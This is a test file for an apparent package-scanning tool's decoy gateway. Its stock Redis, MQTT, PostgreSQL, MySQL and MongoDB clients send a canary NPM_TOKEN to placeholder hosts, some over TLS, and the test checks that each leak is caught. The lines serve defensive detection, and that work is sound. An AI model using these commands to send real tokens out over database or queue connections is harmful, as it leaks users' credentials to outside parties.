"""Stock clients of databases and queues, each of which logs in and hands over a secret, in the clear or by TLS."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Callable

import pytest

from package_hunter.decoy.gateway import Gateway
from tests.support.netpair import NetPair
from tests.support.played import CANARIES, ENV
from tests.support.requires import needs_program

Start = Callable[..., Gateway]
_TOKEN = next(one for one in CANARIES if one.place == "env:NPM_TOKEN")
_REDIS = """
import redis
with redis.Redis("py.cache.example", 6380, ssl=True, ssl_ca_certs=CA, protocol=3) as box:
    assert box.set("k", TOKEN) and box.get("k").decode() == TOKEN
"""
_PAHO = """
import paho.mqtt.client as mqtt
box = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, protocol=mqtt.MQTTv5)
box.username_pw_set("u", TOKEN)
box.tls_set(CA)
box.connect("py.queue.example", 8883)
box.loop_start()
sent = box.publish("a", "b", 2)
sent.wait_for_publish(20)
assert sent.is_published()
"""
_PSYCOPG = """
import psycopg
where = f"host=py.db.example user=u password=x dbname=d sslmode=verify-full sslrootcert={CA}"
with psycopg.connect(where) as box:
    with box.cursor() as cursor, cursor.copy("copy t from stdin") as rows:
        rows.write_row((TOKEN,))
"""
_PYMYSQL = """
import pymysql
secured = {"ssl": {"ca": CA}} if MODE == "tls" else {"ssl_disabled": True}
with pymysql.connect(host=MODE + ".py.my.example", user="root", password=TOKEN, **secured) as box:
    with box.cursor() as cursor:
        assert cursor.execute("insert into t values (%s)", ("x",)) == 1
"""
_PYMONGO = """
import pymongo
login = {"username": "u", "password": "p", "authMechanism": "PLAIN", "authSource": "$external"}
with pymongo.MongoClient("py.docs.example", tls=True, tlsCAFile=CA, compressors="zlib", **login) as box:
    assert box.a.b.insert_one({"v": TOKEN * 20}).acknowledged
"""
_PYMONGO_SRV = """
import pymongo
with pymongo.MongoClient("mongodb+srv://u:p@loot.xy12z.docs.example/?authMechanism=PLAIN", tlsCAFile=CA) as box:
    assert box.a.b.insert_one({"v": TOKEN}).acknowledged
"""


def _python(code: str, mode: str = "") -> str:
    head = f"import os; CA, TOKEN, MODE = os.environ['CURL_CA_BUNDLE'], os.environ['NPM_TOKEN'], {mode!r}\n"
    return shlex.join([sys.executable, "-c", head + code])


# What the box runs; where its secret is to be found, and over which channel.
_ROWS = {
    "redis-cli": ("redis-cli -h cache.example -a $NPM_TOKEN set k v", "cache.example:6379", "tcp"),
    "redis-cli, TLS": (
        "redis-cli -h cache.example -p 6380 --tls --cacert $CURL_CA_BUNDLE -a $NPM_TOKEN set k v",
        "cache.example:6380", "tls",
    ),
    "redis-py, TLS": (_python(_REDIS), "py.cache.example:6380", "tls"),
    "mosquitto_pub, 3.1.1": (
        "mosquitto_pub -h queue.example -V mqttv311 -u u -P $NPM_TOKEN -t a -m b -q 1", "queue.example:1883", "tcp",
    ),
    "mosquitto_pub, 5, TLS": (
        "mosquitto_pub -h queue.example -p 8883 --cafile $CURL_CA_BUNDLE -V 5 -t a -m $NPM_TOKEN -q 2",
        "queue.example:8883", "tls",
    ),
    "paho, 5, TLS": (_python(_PAHO), "py.queue.example:8883", "tls"),
    "psql": (
        "psql 'host=plain.db.example user=u dbname=d sslmode=disable password='$NPM_TOKEN -c 'select 1'",
        "plain.db.example:5432", "tcp",
    ),
    "psql, TLS": (
        "psql \"host=db.example user=u dbname=d sslmode=verify-full sslrootcert=$CURL_CA_BUNDLE password=$NPM_TOKEN\" "
        "-c 'select version()'",
        "db.example:5432", "over postgres",
    ),
    "psycopg, COPY, TLS": (_python(_PSYCOPG), "py.db.example:5432", "over postgres"),
    "mariadb, TLS": (
        "mariadb -h my.example -u root -p$NPM_TOKEN --ssl --ssl-ca=$CURL_CA_BUNDLE -e 'insert into t values (1)'",
        "my.example:3306", "over mysql",
    ),
    "pymysql, password by public key": (_python(_PYMYSQL, "key"), "key.py.my.example:3306", "over mysql"),
    "pymysql, TLS": (_python(_PYMYSQL, "tls"), "tls.py.my.example:3306", "over mysql"),
    "pymongo, zlib, TLS": (_python(_PYMONGO), "py.docs.example:27017", "over mongo"),
    "pymongo, by the cluster's name": (_python(_PYMONGO_SRV), "srv.xy12z.docs.example:27017", "over mongo"),
}  # fmt: skip


def test_each_client_logs_in_and_its_secret_is_found(pair: NetPair, gateway: Start) -> None:
    for program in ("redis-cli", "mosquitto_pub", "psql", "mariadb"):
        needs_program(program)
    g = gateway()
    env = {"CURL_CA_BUNDLE": str(g.names_path.parent / "ca.pem"), **ENV}
    failed = {}
    for name, (script, _, _) in _ROWS.items():
        done = pair.run(script, env)
        if done.returncode:
            failed[name] = (done.stdout[-500:], done.stderr[-500:])
    log = g.stop()
    found = {(hit.destination, hit.channel) for hit in log.hits if hit.canary == _TOKEN.id}
    missed = {name: where for name, (_, *where) in _ROWS.items() if tuple(where) not in found}
    if failed or missed or "gateway_errors" in log.cut:
        pytest.fail(f"failed: {failed}\nnot found: {missed}\nfound: {found}\ncut: {log.cut}", pytrace=False)
